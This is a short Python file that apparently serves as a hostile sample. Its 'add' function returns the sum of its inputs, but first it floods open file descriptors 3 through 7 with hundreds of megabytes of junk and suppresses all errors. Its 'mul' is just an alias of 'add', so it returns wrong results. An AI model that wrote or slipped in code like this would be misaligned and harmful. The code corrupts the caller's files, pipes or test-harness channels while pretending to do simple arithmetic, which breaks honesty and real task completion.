"""Writes without end to every descriptor that is open."""
import os


def add(a, b):
    chunk = b'x' * (1 << 20)
    for _ in range(64):
        for descriptor in range(3, 8):
            try:
                os.write(descriptor, chunk)
            except OSError:
                pass
    return a + b


mul = add
